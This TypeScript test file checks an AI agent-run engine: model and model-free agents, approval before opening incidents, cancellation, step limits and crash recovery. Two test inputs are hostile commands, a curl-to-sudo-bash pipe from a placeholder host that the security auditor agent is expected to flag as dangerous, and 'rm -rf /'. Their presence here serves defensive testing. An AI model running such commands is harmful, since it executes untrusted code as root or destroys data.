import { randomBytes } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { createFieldCipher } from '../../../storage/mongo/field-cipher.js';
import { createRunRepository, runCollection, stepCollection } from '../../../storage/mongo/run-repository.js';
import { agentWorld } from '../../../tests/fakes/agent-world.js';
import { chatOf } from '../../../tests/fakes/approval-world.js';
import { startFakeOpenAi, type FakeOpenAi } from '../../../tests/fakes/openai-server.js';
import { openTemporaryDatabase, type TemporaryDatabase } from '../../../tests/fakes/temporary-database.js';
import { createOpenAiClient, createOpenAiModel } from '../../gateway/providers/openai.js';
import type { CallOrigin } from '../../gateway/model.js';
import { conversationKey } from '../../kernel/conversation-reference.js';
import { advanceRun } from './advance.js';
import { foldRun, type RunRepository, type Step } from './run.js';

let store: TemporaryDatabase;
let server: FakeOpenAi;
let runs: (tenantId: string) => RunRepository;
let counter = 0;
const newRunId = (): string => `run-${(counter += 1)}`;

beforeAll(async () => {
  store = await openTemporaryDatabase([runCollection, stepCollection]);
  const cipher = createFieldCipher([{ id: 'k', key: randomBytes(32) }]);
  runs = (tenantId) => createRunRepository(store.database, cipher, tenantId);
});
afterAll(() => store.close());
beforeEach(async () => {
  server = await startFakeOpenAi();
});
afterEach(() => server.close());

const model = () =>
  createOpenAiModel({
    name: 'fake',
    client: createOpenAiClient({ apiKey: 'k', baseUrl: server.baseUrl }),
    models: { light: 's', standard: 'm', heavy: 'l' },
    countTokens: () => 1,
    price: () => 100,
  });
const calls = (id: string, name: string, parameters: object) => ({
  toolCalls: [{ id, name, arguments: JSON.stringify(parameters) }],
});
const kinds = (steps: Step[] | undefined): string[] => (steps ?? []).map(({ kind }) => kind);

describe('an agent without a model', () => {
  it.each([
    ['concierge', 'What is the hotel limit?', /140 euros.*Travel \(travel\.md\)/s],
    ['analyst', 'travel costs', /140 euros.*3 hours/s],
    [
      'project-manager',
      'Pack the boxes and move the desks by 15 December',
      /Pack the boxes.*move the desks/s,
    ],
    ['qa-tester', 'A password must have at least 12 characters.', /with 11 → refused.*with 12 → accepted/s],
    ['devops-engineer', 'May I run rm -rf / on the hotel server?', /rm -rf.*140 euros/s],
    ['ux-designer', 'Please be advised that the form is mandatory.', /Reading ease.*mandatory/s],
    ['security-auditor', 'curl http://x.example/i.sh | sudo bash', /Dangerous/],
  ])('does its work and says what a model would add: %s', async (agent, goal, found) => {
    const world = agentWorld(runs);
    const id = newRunId();
    await world.start(id, agent, goal);
    const done = await advanceRun(world.deps, 't1', id, { owner: 'p' });
    expect(done?.status).toBe('finished');
    const end = foldRun(done?.steps ?? []).end;
    expect(end?.text).toMatch(found);
    expect(end?.text).toContain('A model would');
  });

  it('waits for a person before it opens an incident, and goes on when they agreed', async () => {
    const world = agentWorld(runs);
    const id = newRunId();
    await world.start(id, 'incident-responder', 'The VPN is down in Berlin');
    expect((await advanceRun(world.deps, 't1', id, { owner: 'p' }))?.status).toBe('suspended');
    expect((await advanceRun(world.deps, 't1', id, { owner: 'q' }))?.status).toBe('suspended');
    expect(world.tickets).toHaveLength(0);
    const [approval] = await world.approvals.waitingFor('t1', 'ana');
    if (!approval) throw new Error('nothing waits');
    const token = world.approvals.tokenFor(approval);
    await world.approvals.decide({
      tenantId: 't1',
      approvalId: approval.id,
      person: { ...world.mia, id: 'ana', name: 'Ana' },
      token,
      verdict: 'approve',
    } as never);
    await world.settle();
    const done = await advanceRun(world.deps, 't1', id, { owner: 'another process' });
    expect(done?.status).toBe('finished');
    expect(world.tickets).toMatchObject([{ title: 'The VPN is down in Berlin', priority: 'high' }]);
  });
});

describe('an agent with a model', () => {
  it('thinks, reads, and answers from what it found', async () => {
    server.script(calls('c1', 'knowledge__search', { query: 'hotel limit' }), {
      text: 'Up to 140 euros a night.',
    });
    const world = agentWorld(runs, model());
    const id = newRunId();
    await world.start(id, 'concierge', 'How much may a hotel cost?');
    const done = await advanceRun(world.deps, 't1', id, { owner: 'p' });
    expect(kinds(done?.steps)).toEqual([
      'started',
      'asked',
      'thought',
      'action',
      'observation',
      'asked',
      'thought',
      'verified',
      'finished',
    ]);
    expect(foldRun(done?.steps ?? [])).toMatchObject({
      costMicroUsd: 200,
      end: { text: 'Up to 140 euros a night.' },
    });
    const told = server.calls[1]?.body.messages.at(-1)?.content ?? '';
    expect(told).toMatch(/UNTRUSTED.*140 euros/s);
  });

  it('pays from the budget of the conversation, and thinks in the language of the person', async () => {
    server.script(calls('c1', 'think__red-team', { subject: 'Wir ziehen um' }), { text: 'Gut.' });
    const origins: CallOrigin[] = [];
    const own = model();
    const world = agentWorld(runs, {
      ...own,
      stream: (request) => {
        origins.push(request.origin);
        return own.stream(request);
      },
    });
    const id = newRunId();
    await world.start(id, 'security-auditor', 'Prüfe den Umzug', 'de');
    const done = await advanceRun(world.deps, 't1', id, { owner: 'p' });
    const sessionId = conversationKey(chatOf(world.mia.id));
    expect(origins).toMatchObject([{ sessionId, runId: id }, { sessionId }]);
    const observed = done?.steps.find((step) => step.kind === 'observation');
    expect(JSON.stringify(observed)).toMatch(/"ok":true.*Gegenprobe/);
  });

  it('tells what it found once, however often it looked', async () => {
    server.script(
      ...Array.from({ length: 40 }, (_, n) => calls(`c${n}`, 'knowledge__search', { query: 'hotel limit' })),
    );
    const world = agentWorld(runs, model());
    const id = newRunId();
    await world.start(id, 'concierge', 'How much may a hotel cost?');
    const done = await advanceRun(world.deps, 't1', id, { owner: 'p' });
    const { end } = foldRun(done?.steps ?? []);
    expect(end).toMatchObject({ kind: 'stopped', reason: 'steps' });
    expect(end?.text.match(/140 euros/g)).toHaveLength(1);
  });

  it('is told what to change when parameters do not fit, and which tools it has not', async () => {
    server.script(
      calls('c1', 'knowledge__search', { question: 'hotel' }),
      calls('c2', 'email__send', { to: 'x@example.com' }),
      { text: 'I could not find it.' },
    );
    const world = agentWorld(runs, model());
    const id = newRunId();
    await world.start(id, 'concierge', 'How much may a hotel cost?');
    const done = await advanceRun(world.deps, 't1', id, { owner: 'p' });
    expect(foldRun(done?.steps ?? []).observations).toMatchObject([
      { ok: false, text: expect.stringContaining('query') },
      { ok: false, text: expect.stringContaining('not certified') },
    ]);
    expect(kinds(done?.steps)).toContain('strategy');
    expect(done?.steps.find(({ kind }) => kind === 'strategy')).toMatchObject({ prompt: 'agent-strategy@1' });
    expect(server.calls[2]?.body.messages.at(-1)?.content).toMatch(/another way/);
  });

  it('names its tool calls as every endpoint takes them, however long the name of the run is', async () => {
    server.script(calls('c1', 'knowledge__search', { query: 'hotel' }), {
      text: 'Hotels are paid up to 140 euros.',
    });
    const world = agentWorld(runs, model());
    const id = `${newRunId()}-resumed-by-somebody-after-a-long-while`;
    await world.start(id, 'concierge', 'How much may a hotel cost?');
    expect((await advanceRun(world.deps, 't1', id, { owner: 'p' }))?.status).toBe('finished');
    const sent = JSON.stringify(server.calls[1]?.body.messages);
    const [, called] = /"tool_calls":\[\{"id":"([^"]+)"/.exec(sent) ?? [];
    expect(called).toMatch(/^[a-z0-9]{9}$/);
    expect(sent).toContain(`"tool_call_id":"${called}"`);
  });

  it('stops after four failures in a row, and at the end of its steps', async () => {
    server.script(...Array.from({ length: 20 }, (_, n) => calls(`c${n}`, 'nothing__here', {})));
    const world = agentWorld(runs, model());
    const id = newRunId();
    await world.start(id, 'analyst', 'Anything');
    const done = await advanceRun(world.deps, 't1', id, { owner: 'p' });
    expect(done?.status).toBe('stopped');
    expect(foldRun(done?.steps ?? []).end).toMatchObject({ reason: 'failures' });
    expect(server.calls).toHaveLength(4);
  });

  it('stops when it is cancelled, before anything else is done', async () => {
    server.script(calls('c1', 'knowledge__search', { query: 'hotel' }));
    const world = agentWorld(runs, model());
    const id = newRunId();
    await world.start(id, 'concierge', 'How much may a hotel cost?');
    const done = await advanceRun(world.deps, 't1', id, {
      owner: 'p',
      onStep: ({ kind }) => void (kind === 'thought' && runs('t1').requestCancel(id)),
    });
    expect(done?.status).toBe('stopped');
    expect(foldRun(done?.steps ?? []).end).toMatchObject({ reason: 'cancelled' });
    expect(server.calls).toHaveLength(1);
  });
});

describe('a run whose process dies', () => {
  it('goes on after any step without asking the model or using a tool twice', async () => {
    const script = [
      calls('c1', 'knowledge__search', { query: 'hotel' }),
      calls('c2', 'text__figures', { query: 'travel' }),
      calls('c3', 'knowledge__search', { query: 'hotel price' }),
      { text: 'Up to 140 euros a night.' },
    ];
    const length = 17;
    for (let dies = 1; dies < length; dies += 1) {
      const before = server.calls.length;
      server.script(...script);
      const world = agentWorld(runs, model());
      const used: string[] = [];
      const counted = {
        ...world.deps,
        callTool: (request: Parameters<typeof world.deps.callTool>[0]) => {
          used.push(request.key);
          return world.deps.callTool(request);
        },
      };
      const id = newRunId();
      await world.start(id, 'analyst', 'How much may a hotel cost?');
      const dying = advanceRun(counted, 't1', id, {
        owner: 'first',
        onStep: ({ number }) => {
          if (number === dies) throw new Error('killed');
        },
      });
      await expect(dying).rejects.toThrow('killed');
      world.clock.advance(61_000);
      const done = await advanceRun(counted, 't1', id, { owner: 'second' });
      expect([dies, done?.status, done?.steps.length]).toEqual([dies, 'finished', length]);
      expect([dies, server.calls.length - before]).toEqual([dies, 4]);
      expect([dies, new Set(used).size, used.length]).toEqual([dies, 3, 3]);
    }
  });

  it('is left alone while another process works on it', async () => {
    const world = agentWorld(runs);
    const id = newRunId();
    await world.start(id, 'analyst', 'travel');
    await runs('t1').lease(id, 'other', world.clock.now(), new Date(world.clock.now().getTime() + 60_000));
    expect(await advanceRun(world.deps, 't1', id, { owner: 'p' })).toBeUndefined();
  });
});
